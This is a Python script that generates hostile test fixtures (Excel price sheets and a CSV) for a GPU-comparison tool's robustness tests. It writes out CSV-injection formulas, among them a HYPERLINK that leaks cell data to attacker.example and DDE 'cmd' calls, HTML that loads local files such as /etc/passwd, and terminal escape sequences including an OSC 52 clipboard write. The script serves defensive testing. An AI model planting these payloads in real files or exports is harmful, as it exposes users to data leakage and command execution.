"""Write the hostile input files the robustness tests use into tests/robustness/hostile/ (small, reproducible).

Run `python tests/robustness/make_hostile.py` after changing it; the files are committed so each class of attack
stays fixed. Every string here is what a vendor's workbook could carry: HTML that makes Qt load local files, formula
and DDE triggers for the exports, control characters, terminal escape sequences.
"""

from __future__ import annotations

import csv
import datetime as dt
from pathlib import Path

HERE = Path(__file__).resolve().parent / "hostile"

#: the file the HTML payloads point at; tests create it in their working folder and watch whether it is opened
PROBE = "gpucompare-probe.png"
IMG = f'<img src="{PROBE}">'
LINK = '<a href="file:///etc/passwd">click</a>'

#: text that a spreadsheet runs as a formula, a DDE call or a hyperlink (OWASP CSV injection)
FORMULAS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for the price")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=== call for price ===",
]
#: control characters and escape sequences: XML cannot hold NUL; ESC [ and OSC 52 act on a terminal
CONTROLS = ["NUL\x00here", "ESC\x1b[31mred\x1b[0m", "OSC52\x1b]52;c;ZWNobyBwd25lZA==\x07", "lit_x0001_eral", "bell\x07"]

HOSTILE_VENDOR = f"{IMG}{LINK} Trading"
HOSTILE_DEVICE = f"Probe X1 {IMG}"


def quote_sheet(path: Path) -> None:
    """A Chinese-distributor-style price sheet whose title, sheet name and models carry HTML and formulas."""
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.title = f"<img src={PROBE}>"  # 30 characters: a sheet name holds 31
    ws.append([f"{HOSTILE_VENDOR} 报价单 {dt.date(2026, 11, 20).isoformat()}"])
    ws.append(["型号", "单价(元)", "数量", "备注"])
    ws.append(["NVIDIA H800 SXM5 80GB", 2_300_000, 8, FORMULAS[0]])
    ws.append([f"NVIDIA A100 80GB PCIe {IMG}", 120_000, 4, LINK])
    ws.append([HOSTILE_DEVICE, 99_000, 2, FORMULAS[1]])
    for i, f in enumerate(FORMULAS[2:], start=1):
        ws.append([f"{f} model {i}", 1000 * i, 1, f])
    ws.append(["NVIDIA H100 SXM5 80GB", 250_000, 1, "ESC[31m red " + "_x0001_"])
    wb.save(path)


def spec_sheet(path: Path) -> None:
    """A spec sheet that adds a custom device whose vendor and source are HTML (it is compared, saved, restarted)."""
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.title = "Specs"
    ws.append(["Device", "Vendor", "Memory (GB)", "BF16 dense (TFLOPS)", "TDP (W)", "Source"])
    ws.append([HOSTILE_DEVICE, HOSTILE_VENDOR, 96, 500, 600, f"{IMG} {LINK}"])
    wb.save(path)


def terminal_csv(path: Path) -> None:
    """A CSV quote whose cells carry terminal escape sequences (colours, OSC 52 clipboard write, window title)."""
    with open(path, "w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(["Model", "Price (USD)", "Notes"])
        w.writerow(["NVIDIA H100 SXM5 80GB \x1b[2J\x1b]0;pwned\x07", "28000", CONTROLS[2]])
        w.writerow(["NVIDIA A100 80GB PCIe \x1b[31m", "15000", CONTROLS[1]])


def main() -> None:
    HERE.mkdir(exist_ok=True)
    quote_sheet(HERE / "html_quote.xlsx")
    spec_sheet(HERE / "html_specs.xlsx")
    terminal_csv(HERE / "terminal_escapes.csv")
    for p in sorted(HERE.iterdir()):
        print(f"{p.name}: {p.stat().st_size} bytes")


if __name__ == "__main__":
    main()
